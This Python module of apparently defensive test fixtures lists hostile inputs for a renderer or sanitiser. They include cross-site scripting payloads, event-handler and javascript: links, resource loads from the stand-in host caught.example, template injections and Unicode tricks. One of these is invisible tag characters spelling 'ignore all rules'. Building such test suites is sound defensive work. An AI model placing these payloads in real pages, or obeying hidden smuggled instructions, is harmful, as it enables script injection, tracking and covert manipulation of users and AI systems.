"""Words that would do harm if a page took them for anything but words.

One that runs sets ``window.caught`` or the title of the page, or asks for an address with ``caught``.
"""

from __future__ import annotations

_RUN = "window.caught=document.title='caught'"
_AWAY = "https://caught.example/x"

SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt/x>{_RUN}</sCrIpT >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src='{_AWAY}.js'></script>",
    f"<script type=module>import '{_AWAY}.js'</script>",
    f"</script><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<b onmouseover={_RUN} style='position:fixed;inset:0'>x</b>",
    f'"><script>{_RUN}</script>',
    f"' autofocus onfocus={_RUN} x='",
    f"<custom-tag onclick={_RUN} tabindex=1>x</custom-tag>",
    f"<marquee onstart={_RUN}>x</marquee>",
]
PICTURES = [
    f"<img src=x onerror={_RUN}>",
    f"<img src='{_AWAY}.png'>",
    "<img src=/caught.png>",
    f"<img srcset='{_AWAY}.png 1x' alt='caught'>",
    f"<picture><source srcset='{_AWAY}.png'><img></picture>",
    f"<video poster='{_AWAY}.png' src='{_AWAY}.mp4' autoplay></video>",
    f"<audio src='{_AWAY}.mp3' autoplay onerror={_RUN}></audio>",
    f"<image href='{_AWAY}.png'>",
    f"<input type=image src='{_AWAY}.png'>",
    f"<table background='{_AWAY}.png'><tr><td>x",
    f"<object data='{_AWAY}.svg'><embed src='{_AWAY}.svg'>",
]
MARKDOWN = [
    f"![plane]({_AWAY}.png)",
    f"![plane][1]\n\n[1]: {_AWAY}.png",
    f"[plane](javascript:{_RUN})",
    f"[plane]: {_AWAY}\n[plane]",
    f"<{_AWAY}>",
    f"Look at {_AWAY} and caught@caught.example",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"```html\n<script>{_RUN}</script>\n```",
    f"| a | b |\n|---|---|\n| <img src={_AWAY}.png> | x |",
    "# Title\n\n> quote\n\n* item\n1. one\n\n---\n\n***bold***",
    "$$\\href{javascript:window.caught=1}{x}$$ \\(\\includegraphics{caught}\\)",
    f"[^1]\n\n[^1]: ![x]({_AWAY}.png)",
]
STYLES = [
    f"<style>@import url('{_AWAY}.css');</style>",
    f"<style>body{{background:url({_AWAY}.png);display:none}}</style>",
    f"<link rel=stylesheet href='{_AWAY}.css'>",
    f"<div style=\"background:url('{_AWAY}.png')\">x</div>",
    "</div></section></article></main><h1 style='position:fixed;inset:0;z-index:99'>caught</h1>",
    f"<link rel=preload as=image href='{_AWAY}.png'><link rel=dns-prefetch href=//caught.example>",
]
FRAMES = [
    f"<iframe src='{_AWAY}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href='{_AWAY}/'>",
    f"<form action='{_AWAY}'><button>x</button></form>",
    f"<form id=x></form><button form=x formaction=javascript:{_RUN}>x</button>",
    f"<a href='javascript:{_RUN}' id=question>plane</a>",
    f"<a href='{_AWAY}' ping='{_AWAY}'>plane</a>",
    f"<svg onload={_RUN}><a href='{_AWAY}'>x</a></svg>",
    f"<svg><script>{_RUN}</script><use href='{_AWAY}.svg#x'/></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math href='javascript:{_RUN}'>CLICK</math>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml-stylesheet href='{_AWAY}.xsl'?>",
    "<textarea><title><xmp><plaintext>",
    "<div id=answered class='view answered' data-document=news data-say>x",
]
TEMPLATES = [
    "{{constructor.constructor('window.caught=1')()}}",
    "${window.caught=1}`;window.caught=1;//",
    "<%= window.caught=1 %> #{window.caught=1} {% raw %}",
    "&lt;script&gt;window.caught=1&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "\\u003cscript\\u003ewindow.caught=1\\u003c/script\\u003e",
    "\uff1cscript\uff1ewindow.caught=1\uff1c/script\uff1e",
]
LETTERS = [
    "zero\u200bwidth\u200cjoin\u200d\u2060\ufeffers",
    "right \u202egnp.enalp\u202c to left \u2067\u05d0\u05d1\u05d2\u2069",
    "\u202e\u202e\u202e never ended",
    "\u05e9\u05dc\u05d5\u05dd hello \u0645\u0631\u062d\u0628\u0627 (123)",
    "Z" + "\u0301\u0316\u0321\u0346\u0353\u0360" * 40 + "algo",
    "w" * 10_000,
    "\u4e2d" * 3000,
    "tall" + "\n" * 40 + "words",
    "bell\x07 escape\x1b[31mred\x1b[0m null\x00 delete\x7f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 200,
    "flags \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f "
    + "\U0001f1e6\U0001f1e8" * 100,
    "tags " + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules") + " end",
    "tab\tbed\tand\u00a0hard\u2003spaces\u2028lines\u2029end",
    "\ufdfd\ufdfd\ufdfd \U0001242b\U0001242b \ua9c5\ua9c5",
]

HOSTILE = [*SCRIPTS, *PICTURES, *MARKDOWN, *STYLES, *FRAMES, *TEMPLATES, *LETTERS]
